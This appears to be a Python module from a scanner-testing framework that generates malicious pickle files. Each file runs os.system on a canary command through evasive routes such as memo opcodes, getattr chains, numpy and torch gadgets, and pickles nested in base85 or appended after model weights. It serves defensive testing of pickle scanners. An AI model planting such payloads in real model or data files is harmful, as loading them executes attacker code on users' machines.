"""Ways in which attackers have passed scanners: the call is there, and looks like something else."""

import base64
import pickle
from dataclasses import dataclass
from pathlib import Path
from typing import ClassVar

from caponier.emulate.attacker.pickle_stream import PROTO_4, called, data, ended, named, text
from caponier.emulate.file_emulation import PICKLE_EMBEDDING, command, write_all
from caponier.matrix.technique import TechniqueId


@dataclass(frozen=True)
class DisguisedPickleAttack:
    """Writes pickles whose call hides behind other instructions, names and wrappings."""

    name: ClassVar[str] = "disguised_pickle_attack"
    description: ClassVar[str] = "pickles that hide the call: memo, INST, OBJ, getattr chains, pickles inside pickles"
    techniques: ClassVar[tuple[TechniqueId, ...]] = PICKLE_EMBEDDING
    harmful: ClassVar[bool] = True

    def write(self, folder: Path, canary: Path) -> list[Path]:
        """Write the files; see `caponier.emulate.file_emulation.FileEmulation.write`."""
        order = command(canary)
        return write_all(folder, _instructions(order) | _gadgets(order) | _wrappings(order))


def _instructions(order: str) -> dict[str, bytes]:
    """Return pickles that reach the call by unusual instructions."""
    in_memo = text("os") + pickle.BINPUT + b"\x07" + text("system") + pickle.BINPUT + b"\x09" + pickle.POP + pickle.POP
    from_memo = pickle.BINGET + b"\x07" + pickle.BINGET + b"\x09" + pickle.STACK_GLOBAL
    bound = named("functools", "partial") + named("os", "system") + pickle.TUPLE1 + pickle.NEWOBJ
    # An extension code means nothing until it is registered, which a pickle can do as well.
    registered = called(named("copyreg", "add_extension"), text("os"), text("system"), pickle.BININT1 + b"\x05")
    changes = pickle.NONE + _pair(text("__init__"), named("os", "system")) + pickle.TUPLE2 + pickle.BUILD
    return {
        "inst.pkl": ended(pickle.MARK, text(order), b"ios\nsystem\n"),
        "obj.pkl": ended(pickle.MARK, named("os", "system"), text(order), pickle.OBJ),
        "new.pkl": ended(called(bound, text(order))),
        "memo.pkl": ended(in_memo, called(from_memo, text(order)), proto=PROTO_4),
        "dotted.pkl": ended(
            called(text("os") + text("path.os.system") + pickle.STACK_GLOBAL, text(order)), proto=PROTO_4
        ),
        "old-name.pkl": ended(called(named("__builtin__", "eval"), text(f"__import__('os').system({order!r})"))),
        "extension.pkl": ended(registered, pickle.POP, called(pickle.EXT1 + b"\x05", text(order))),
        "changed-class.pkl": ended(called(named("collections", "UserString") + changes, text(order))),
    }


def _pair(key: bytes, value: bytes) -> bytes:
    return pickle.EMPTY_DICT + pickle.MARK + key + value + pickle.SETITEMS


def _gadgets(order: str) -> dict[str, bytes]:
    """Return pickles that reach the call by functions that are not meant for it."""
    lookup = called(named("builtins", "getattr"), named("os", "path"), text("os"))
    system = called(named("builtins", "getattr"), lookup, text("system"))
    factory = called(named("numpy.random._pickle", "__generator_ctor"), text(order), named("os", "system"))
    return {
        "getattr.pkl": ended(called(system, text(order))),
        "eval.pkl": ended(called(named("builtins", "eval"), text(f"__import__('os').system({order!r})"))),
        "runpy.pkl": ended(called(named("runpy", "_run_code"), text(f"import os; os.system({order!r})"), b"}")),
        "partial.pkl": ended(called(called(named("functools", "partial"), named("os", "system")), text(order))),
        "map.pkl": ended(called(named("builtins", "list"), _mapped(order))),
        "numpy-factory.pkl": ended(factory),
        "rebuilt.pkl": ended(
            called(
                named("torch._tensor", "_rebuild_from_type_v2"),
                named("os", "system"),
                named("torch", "Tensor"),
                text(order) + pickle.TUPLE1,
                pickle.NONE,
            )
        ),
        "unlisted.pkl": ended(called(named("some_library.jobs", "run_command"), text(order))),
    }


def _mapped(order: str) -> bytes:
    return called(named("builtins", "map"), named("os", "system"), text(order) + pickle.TUPLE1)


def _wrappings(order: str) -> dict[str, bytes]:
    """Return pickles that carry another one."""
    inner = ended(called(named("os", "system"), text(order)))
    packed = base64.b85encode(inner).decode()
    source = f"__import__('pickle').loads(__import__('base64').b85decode({packed!r}))"
    return {
        "pickle-in-pickle.pkl": ended(called(named("pickle", "loads"), data(inner))),
        "base85.pkl": ended(called(named("builtins", "exec"), text(source))),
        "second-pickle.pkl": pickle.dumps({"weights": [1.0, 2.0]}) + inner,
        "torch-bytes.pkl": ended(called(named("torch.storage", "_load_from_bytes"), data(inner))),
    }


EMULATION = DisguisedPickleAttack()
